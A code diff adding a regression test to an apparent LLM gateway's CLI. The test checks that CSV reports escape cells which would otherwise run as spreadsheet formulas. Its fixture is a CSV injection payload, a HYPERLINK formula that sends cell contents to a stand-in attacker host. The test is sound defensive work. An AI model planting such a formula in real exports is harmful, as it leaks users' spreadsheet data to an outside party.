@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -128,6 +130,29 @@ def test_cli_report_by_team_in_three_formats(tmp_path: Path, monkeypatch: pytest
     assert "research" in table.output and "0.0017" in table.output and "0.0054" in table.output
     bad = runner.invoke(cli, ["report", "--since", "yesterday-ish", "-c", str(cfg)])
     assert bad.exit_code == 2 and "span like 30d" in bad.output
+
+
+def test_csv_cells_a_client_wrote_are_not_spreadsheet_formulas(seeded_gateway, tmp_path: Path,
+                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    """Any key may send a `model` no alias has: it is recorded as sent, and `report --by model --format csv` wrote
+    it as is, so a spreadsheet opening the file ran `=HYPERLINK(...)` as a formula (CSV injection)."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    sent = httpx.post(f"{seeded_gateway.url}/v1/chat/completions", headers={"authorization": "Bearer sk-research-123456"},
+                      json={"model": formula, "messages": [{"role": "user", "content": "hi"}]})
+    assert sent.status_code == 404
+    fut = __import__("asyncio").run_coroutine_threadsafe(seeded_gateway.services.writer.flush(),
+                                                        seeded_gateway.services.loop)
+    fut.result(10)
+    cfg = tmp_path / "draftgate.yaml"
+    cfg.write_text(config(tmp_path / "ledger.db"))
+    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
+    out = CliRunner().invoke(cli, ["report", "--by", "model", "--format", "csv", "-c", str(cfg)])
+    assert out.exit_code == 0, out.output
+    labels = [row["label"] for row in csv.DictReader(io.StringIO(out.output))]
+    assert "'" + formula in labels and formula not in labels, labels
+    assert not any(label[:1] in "=+-@\t\r" for label in labels)
+    as_json = CliRunner().invoke(cli, ["report", "--by", "model", "--format", "json", "-c", str(cfg)])
+    assert formula in {r["label"] for r in json.loads(as_json.output)["rows"]}  # JSON keeps what was sent
 
 
 def test_dates_at_the_ends_of_the_calendar_are_a_400_not_a_500(seeded_gateway, tmp_path: Path,
